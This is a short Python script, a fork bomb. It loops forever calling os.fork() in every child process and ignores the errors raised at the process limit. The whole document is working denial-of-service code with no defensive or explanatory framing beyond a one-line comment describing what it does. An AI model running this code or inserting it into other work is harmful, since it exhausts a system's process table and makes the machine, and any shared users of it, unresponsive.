# os.fork() forever in every process; EAGAIN at the processes limit is ignored.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
